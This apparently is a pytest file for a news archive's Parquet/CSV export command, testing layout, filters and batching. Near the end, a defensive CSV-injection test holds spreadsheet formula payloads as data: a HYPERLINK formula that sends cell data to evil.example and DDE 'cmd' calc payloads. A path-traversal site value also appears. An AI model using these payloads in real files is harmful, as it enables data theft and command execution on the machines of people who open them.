"""``newsarchive export`` and pipelines.archive.export: Parquet/CSV partitioned by site and publication day."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pytest

from crawler.cli import main
from pipelines.archive.export import ExportError, export_records, partition_of, schema
from pipelines.archive.reader import open_archive
from tests.test_reading_support import sample_archive
from tests.threats import observe

pq = pytest.importorskip("pyarrow.parquet")

LAYOUT = [
    "site=mopo/date=2024-05-01/part-0.{}",
    "site=mopo/date=2024-05-03/part-0.{}",
    "site=mopo/date=2024-06-01/part-0.{}",
    "site=ndr/date=2024-05-01/part-0.{}",
    "site=ndr/date=2024-05-02/part-0.{}",
    "site=ndr/date=unknown/part-0.{}",
]


def files(out: Path) -> list[str]:
    return sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())


def test_parquet_export(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive, out = sample_archive(tmp_path), tmp_path / "out"
    assert main(["export", "--archive", str(archive), "--format", "parquet", str(out)]) == 0
    assert "7 records in 6 files" in capsys.readouterr().err
    assert files(out) == [f.format("parquet") for f in LAYOUT]
    table = pq.read_table(out / "site=ndr/date=2024-05-02/part-0.parquet")
    assert table.schema == schema("parquet")  # the fixed schema; site and date are the directories
    rows = table.to_pylist()
    assert [(r["title"], r["revision"]) for r in rows] == [("ndr 2 r1", 1), ("ndr 2 r2", 2)]
    assert rows[1]["authors"] == [] and rows[1]["extractor"]["method"] == "jsonld"
    assert dict(rows[1]["extractor"]["fields"]) == {"body": "jsonld"}
    assert rows[1]["published"] == "2024-05-02T23:30:00+02:00" and rows[1]["paywalled"] is False
    dataset = pq.ParquetDataset(out, partitioning="hive")
    assert dataset.read().num_rows == 7


def test_csv_export_with_filters(tmp_path: Path) -> None:
    archive, out = sample_archive(tmp_path), tmp_path / "csv"
    args = ["export", "--archive", str(archive), "--format", "csv", "--latest", "--site", "ndr", str(out)]
    assert main(args) == 0
    assert files(out) == [f.format("csv") for f in LAYOUT if "ndr" in f]
    with (out / "site=ndr/date=2024-05-02/part-0.csv").open(newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["title"] == "ndr 2 r2" and row["revision"] == "2"
    assert json.loads(row["authors"]) == [] and json.loads(row["extractor"])["method"] == "jsonld"
    assert list(row) == schema("csv").names


def test_refuses_a_non_empty_output_unless_forced(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive, out = sample_archive(tmp_path), tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    assert main(["export", "--archive", str(archive), str(out)]) == 2
    assert "not empty" in capsys.readouterr().err and files(out) == ["notes.txt"]
    assert main(["export", "--archive", str(archive), "--force", str(out)]) == 0
    assert main(["export", "--archive", str(archive), "--force", "--site", "mopo", str(out)]) == 0
    assert files(out) == ["notes.txt", *(f.format("parquet") for f in LAYOUT if "mopo" in f)]
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportError, match="not a directory"):
        export_records([], tmp_path / "file")


def test_missing_pyarrow_is_a_usage_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = sample_archive(tmp_path)
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    monkeypatch.setitem(sys.modules, "pyarrow.dataset", None)
    assert main(["export", "--archive", str(archive), str(tmp_path / "out")]) == 2
    assert "pip install 'newsarchive[export]'" in capsys.readouterr().err
    assert not (tmp_path / "out").exists()


def test_partitions_are_safe_and_typed(tmp_path: Path) -> None:
    assert partition_of({"site": "../../etc", "published": "2024-02-30T10:00:00+01:00"}) == ("etc", "unknown")
    assert partition_of({"site": "NDR", "published": "2024-02-29"}) == ("ndr", "2024-02-29")
    odd = {"id": "x", "site": "ndr", "revision": "two", "authors": "not a list", "raw": 5, "published": None}
    result = export_records([odd], tmp_path / "out")
    assert result.files == ["site=ndr/date=unknown/part-0.parquet"] and result.records == 1
    (row,) = pq.read_table(tmp_path / "out" / result.files[0]).to_pylist()
    assert row["revision"] is None and row["authors"] == [] and row["raw"] is None
    with pytest.raises(ExportError, match="unknown export format"):
        export_records([], tmp_path / "x", "xlsx")


def test_export_streams_in_batches(tmp_path: Path) -> None:
    reader = open_archive(str(sample_archive(tmp_path)))
    result = export_records(reader.records(), tmp_path / "out", "parquet", batch_rows=2)
    assert result.records == 7
    # every batch of 2 writes its own file per partition; together they hold every record once
    assert {f.rsplit("/", 1)[0] for f in result.files} == {f.rsplit("/", 1)[0] for f in LAYOUT}
    assert len(result.files) > len(LAYOUT)
    assert pq.read_table(tmp_path / "out").num_rows == 7
    assert reader.cursor == reader.manifests()[-1]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """OWASP's rule for CSV injection: a text cell starting with = + - @ tab or CR gets a leading '."""
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"klick")',
        "lead": "+1+cmd|' /C calc'!A0",
        "body": "-2+3",
        "section": "@SUM(1+1)*cmd|' /C calc'!A0",
        "publisher": "\tTAB",
        "region": "\rCR",
        "language": "de",
        "authors": ["=1+1"],
    }
    records = [{"id": "a", "site": "ndr", "url": "https://www.ndr.de/a-1.html", **hostile}]
    export_records(records, tmp_path / "csv", "csv")
    with (tmp_path / "csv/site=ndr/date=unknown/part-0.csv").open(newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    for name in ("title", "lead", "body", "section", "publisher", "region"):
        assert row[name] == "'" + hostile[name], name
    assert row["language"] == "de" and row["url"] == "https://www.ndr.de/a-1.html"
    assert json.loads(row["authors"]) == ["=1+1"], "a JSON cell starts with [ and stays as it is"
    export_records(records, tmp_path / "parquet", "parquet")
    (kept,) = pq.read_table(tmp_path / "parquet/site=ndr/date=unknown/part-0.parquet").to_pylist()
    assert kept["title"] == hostile["title"], "Parquet keeps the values"
    observe("csv-formula", f"CSV title cell: {row['title']}")
